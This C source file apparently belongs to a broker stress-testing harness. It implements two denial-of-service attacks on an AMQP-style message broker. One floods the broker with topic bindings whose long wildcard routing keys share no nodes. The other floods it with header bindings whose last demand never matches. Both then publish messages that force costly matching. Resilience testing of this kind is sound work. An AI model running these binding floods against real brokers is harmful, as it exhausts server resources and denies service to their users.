/* Bindings that make one message cost as much as thousands. */
#include <stdio.h>
#include <string.h>

#include "many.h"

enum { KEY = 255, PIPELINE = 100 };

/* "#.a.#.b.#. ..." with the number in its first words, so that no two share a node. */
static struct str pattern(unsigned number, char key[KEY + 1])
{
    size_t n = (size_t)snprintf(key, KEY, "#.%c.#.%c.#.%c", 'a' + (int)(number % 26),
                                'a' + (int)(number / 26 % 26), 'a' + (int)(number / 676 % 26));

    while (n + 4 <= KEY) {
        memcpy(key + n, ".#.a", 4);
        n += 4;
    }
    return (struct str){ key, n };
}

static void put_topic(struct link *l, unsigned number)
{
    char key[KEY + 1];
    struct m_queue_bind b = { .queue = S("attack"),
                              .exchange = S("attack-topic"),
                              .routing_key = pattern(number, key) };

    link_put(l, 1, M_queue_bind, &b);
}

/* Forty demands; the last of them is never met. */
static void put_headers(struct link *l, unsigned number)
{
    enum { DEMANDS = 40 };
    struct field fields[DEMANDS];
    char names[DEMANDS][8];
    struct m_queue_bind b = { .queue = S("attack"),
                              .exchange = S("attack-headers"),
                              .arguments = { fields, DEMANDS } };

    for (unsigned i = 0; i < DEMANDS; i++) {
        snprintf(names[i], sizeof names[i], "h%02u", i);
        fields[i] = (struct field){ .name = str_of(names[i]),
                                    .value = INT32(i + 1 < DEMANDS ? 1 : (int)number + 2) };
    }
    link_put(l, 1, M_queue_bind, &b);
}

static unsigned bind_all(struct link *l, void (*put)(struct link *l, unsigned number), unsigned n)
{
    unsigned made = 0;

    for (unsigned from = 0; from < n && !l->refused && !l->gone; from += PIPELINE) {
        for (unsigned i = from; i < from + PIPELINE; i++)
            put(l, i);
        if (!link_flush(l))
            break;
        for (unsigned i = 0; i < PIPELINE && !l->refused; i++)
            made += link_await(l, 1, M_queue_bind_ok) != NULL;
    }
    return made;
}

static void exchange(struct stage *s, struct link *l, struct str name, struct str type)
{
    struct m_exchange_declare x = { .exchange = name, .type = type, .auto_delete = true };

    if (!link_call(l, 1, M_exchange_declare, &x, M_exchange_declare_ok))
        stage_give_up(s, "no exchange");
}

/* The bindings' owner stays, or all of them would go; another connection publishes. If the
   broker refused a binding and closed, what it took has gone: then there is less to attack. */
static void publish_on(struct stage *s, const struct message *m, unsigned made)
{
    struct link l;
    uint64_t said = 0;

    must_open(s, &l);
    for (int i = 0; i < 20; i++)
        link_put_publish(&l, 1, m);
    said += pour(s, &l, buf_str(&l.out), l.out.n);
    stage_established(s, made);
    while (said && stage_waits(s, 1) && !l.gone)
        link_again(&l, buf_str(&l.out));
}

void attack_topic_bomb(struct stage *s)
{
    char key[KEY + 1];
    struct message m = { .exchange = S("attack-topic"), .key = { key, KEY } };
    struct link l;
    unsigned made;

    for (unsigned i = 0; i < KEY; i++)
        key[i] = i % 2 ? '.' : 'a';
    must_declare(s, &l, S("attack"));
    exchange(s, &l, m.exchange, S("topic"));
    made = bind_all(&l, put_topic, stage_size(s, 2000, 200));
    publish_on(s, &m, made);
}

void attack_headers_bomb(struct stage *s)
{
    enum { FIELDS = 40 };
    struct field fields[FIELDS];
    char names[FIELDS][8];
    struct message m = { .exchange = S("attack-headers"),
                         .properties = { .headers = { fields, FIELDS }, .has_headers = true } };
    struct link l;
    unsigned made;

    for (unsigned i = 0; i < FIELDS; i++) {
        snprintf(names[i], sizeof names[i], "h%02u", i);
        fields[i] = (struct field){ .name = str_of(names[i]), .value = INT32(1) };
    }
    must_declare(s, &l, S("attack"));
    exchange(s, &l, m.exchange, S("headers"));
    made = bind_all(&l, put_headers, stage_size(s, 5000, 500));
    publish_on(s, &m, made);
}
